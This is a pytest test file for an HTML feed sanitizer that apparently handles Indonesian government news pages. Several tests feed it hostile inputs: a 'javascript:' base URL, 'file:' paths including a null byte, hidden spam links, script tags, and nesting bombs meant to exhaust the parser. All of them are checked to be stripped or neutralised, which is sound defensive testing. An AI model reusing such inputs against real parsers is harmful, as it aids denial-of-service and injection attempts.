def test_a_source_decides_how_much_is_shown(mode: Mode, has_text: bool) -> None:
    """All of it, the first sentences, or the title alone; what is the same story is known all the same."""
    found = cleaned(mode, content=LONG)
    assert bool(found.text) is has_text
    assert found.fingerprint == cleaned(content=LONG).fingerprint
    if mode == "excerpt":
        assert found.text == found.summary
        assert len(found.text) < 320
    check_closed(found.html)


def test_an_article_without_a_title_is_called_by_its_first_words() -> None:
    """And one without anything says so."""
    assert cleaned(title="", content="<p>Rapat dimulai pukul sembilan.</p>").title == "Rapat dimulai pukul sembilan."
    assert cleaned(title="<p></p>", content="").title == "(tanpa judul)"


def test_the_raw_hash_is_of_what_was_sent() -> None:
    """The same while the source sends the same, whoever reads it; another when one letter is another."""
    assert cleaned(content=LONG).raw == cleaned("excerpt", content=LONG).raw
    others: list[dict[str, Any]] = [
        {"content": f"{LONG} "}, {"title": "Lain"}, {"published": "kemarin"}, {"pictures": (PictureRef("/a.jpg"),)},
        {"fields": {"State": "batal"}},
    ]  # fmt: skip
    for other in others:
        fields: dict[str, Any] = {"content": LONG, **other}
        assert cleaned(**fields).raw != cleaned(content=LONG).raw


def test_the_fingerprint_is_of_words() -> None:
    """Markup, quotation marks and a share row make no other story."""
    one = cleaned(content=LONG.replace("Rapat", '"Rapat"')).fingerprint
    other = cleaned(content=f"<div>{LONG.replace('Rapat', '“<b>Rapat</b>”')}</div><p>Bagikan: Facebook</p>").fingerprint
    assert one == other == cleaned(content=LONG).fingerprint


def test_relative_links_are_relative_to_where_the_text_says() -> None:
    """Its own base, which may itself be relative, else its page."""
    said = '<p><a href="a.pdf">unduh</a></p>'
    assert cleaned(content=said, base="https://b.go.id/x/").links == ("https://b.go.id/x/a.pdf",)
    assert cleaned(content=said, base="../x/").links == ("https://dinkes.contohkab.go.id/berita/x/a.pdf",)
    assert cleaned(content=said, base="javascript:").links == cleaned(content=said).links == (f"{PAGE}a.pdf",)
    assert cleaned(content=said, url="").links == ()


@settings(max_examples=100, deadline=None)
@given(
    st.text(st.characters(codec=None)),
    MARKUPS,
    st.text(st.characters(codec=None)),
    st.sampled_from(["full", "excerpt", "link"]),
)
def test_any_entry_becomes_an_article(title: str, content: str, address: str, mode: Mode) -> None:
    """Whatever it holds, it can be stored and printed."""
    found = cleaned(
        mode, title=title, content=content, url=address, guid=address, author=title, tags=(title, content), base=address
    )
    check_closed(found.html)
    assert found.title
    repr(found).encode()
    for text in (
        found.title,
        found.text,
        found.summary,
        found.author,
        found.url,
        found.guid,
        *found.tags,
        *found.links,
        *found.hidden,
    ):
        text.encode()


def test_a_feed_names_no_file_of_ours() -> None:
    """`file:` in an enclosure or a picture is nothing that a source may ask for; our own people may."""
    refs = (PictureRef("file:agencies/rsud/foto.png"), PictureRef("file:a\x00b"))
    assert cleaned(content="<p>Isi</p>", pictures=refs).pictures == ()


# --- what is nested without end --------------------------------------------------------------------------------------------

UNCOUNTED = {
    "dd": "<dd>x", "dt": "<dt>x", "a sign in an attribute": '<div title="<">x', "closed in the wrong order": "<b>x<div></b></div>",
    "italic and table": "<i><table>x", "script beside": "<div><script>y</script>x<style>y</style>",
}  # fmt: skip


@pytest.mark.parametrize("piece", UNCOUNTED.values(), ids=UNCOUNTED)
def test_what_is_nested_past_counting_is_flat_and_said_so(piece: str) -> None:
    """However a parser is brought to nest: nobody goes too deep, the words are all there, and people look at it."""
    found = body(piece * 3000)
    assert found.text.count("x") == 3000
    assert "y" not in found.text
    assert "terlalu-dalam" in found.flags
    check_closed(found.safe)


CODE = "<script>rahasia()</script><style>.rahasia{}</style><template><p>rahasia <b>rahasia</b></template>"


@pytest.mark.parametrize(
    "around", ["<div>" * (DEPTH + 9), "<b>a</b>" * ELEMENTS, "<div>" * ELEMENTS, "<p></i>" * ELEMENTS]
)
def test_code_is_no_text_however_deep_it_lies(around: str) -> None:
    """Of markup that is too deep, or of which there is too much, no more is read than of any other."""
    found = body(f"{around}<p>awal {CODE} kata</p>{CODE}<p>akhir</p>")
    assert "terlalu-dalam" in found.flags
    assert "rahasia" not in found.text + found.safe
    assert found.text.split()[-3:] == ["awal", "kata", "akhir"]


UNREAD = (
    "<noscript>{}</noscript>", "<svg><text>{}</text></svg>", "<form>{}</form>", "<canvas>{}</canvas>",
    "<div hidden>{}</div>", '<div style="display:none">{}</div>', "<p class=jauh>{}</p>",
)  # fmt: skip
LEFT_OUT = "rahasia <span>rahasia <a href='https://judi.example/'>rahasia <i>rahasia</i> rahasia</a></span> rahasia"


@pytest.mark.parametrize("around", UNREAD)
@pytest.mark.parametrize("deep", range(DEPTH - 4, DEPTH + 6))
def test_what_is_not_read_is_not_read_however_deep_it_lies(around: str, deep: int) -> None:
    """What stands in a form, a drawing or a hidden element goes with it, also where it can only lie beside it; links
    that are hidden are evidence there too."""
    style = "<style>.jauh{text-indent:-9999px}</style>"
    found = body(f"{style}{'<div>' * deep}awal {around.format(LEFT_OUT)} akhir{'</div>' * deep}tamat")
    assert found.text.split() == ["awal", "akhir", "tamat"]
    assert "rahasia" not in found.safe
    assert (set(found.hidden), found.links) == (
        {"https://judi.example/"} if "iv " in around or "<p" in around else set(),
        [],
    )


def test_what_is_too_deep_keeps_its_order() -> None:
    """Words, links and pictures: an element that goes on behind another within it does so in the tree."""
    deep = "<div>a<div>b<a href='https://a.go.id/'>c</a>d</div>e<p>f<img src=/a.jpg>g</div>h"
    found = body("<div>" * DEPTH + deep + "</div>i" * 9)
    assert "".join(found.text.split()) == "abcdefgh" + "i" * 9
    assert (found.links, len(found.pictures), found.flags) == (["https://a.go.id/"], 1, ["terlalu-dalam"])


@settings(max_examples=100, deadline=None)
@given(MARKUPS)
def test_any_markup_keeps_its_words_in_the_deep(markup: str) -> None:
    """The same words in the same order as where nothing is around it."""
    deep = words_of(parsed("<div>" * (DEPTH + 1) + markup)[0])
    assert squeezed("".join(deep)) == squeezed("".join(words_of(parsed(f"<div>{markup}")[0])))


def test_what_a_parser_does_not_nest_is_not_called_deep() -> None:
    """Tags that are left open are counted by nobody but the tree."""
    found = body("<font><td>x" * 3000)
    assert (found.text.count("x"), found.flags) == (3000, [])


def test_what_is_said_of_a_whole_stays_within_bounds() -> None:
    """Emphasis around thousands of paragraphs is said in each of them, once, and never makes much of little."""
    wrapped = "<b><i>" * 30 + "<p>x" * 4000
    found = body(wrapped)
    assert len(found.safe) < 10 * len(wrapped)
    assert found.text.count("x") == 4000
    linked = f'<a href="https://a.go.id/{"x" * 1900}">y' + "<p>x" * 4000
    long = body(linked)
    assert "terlalu-panjang" in long.flags
    assert len(long.safe) < 3 * len(linked)
    assert "<a " not in long.safe


def test_a_figure_looks_for_its_caption_once() -> None:
    """Thousands of pictures in one figure, of which the first has the caption: in time that grows with their number."""
    began = time.process_time()
    found = body("<figure>" + '<img src="/a.jpg">' * 9000 + "<figcaption>Foto: Humas</figcaption></figure>")
    assert time.process_time() - began < 5
    assert (found.pictures[0].credit, found.pictures[1].credit) == ("Foto: Humas", "")
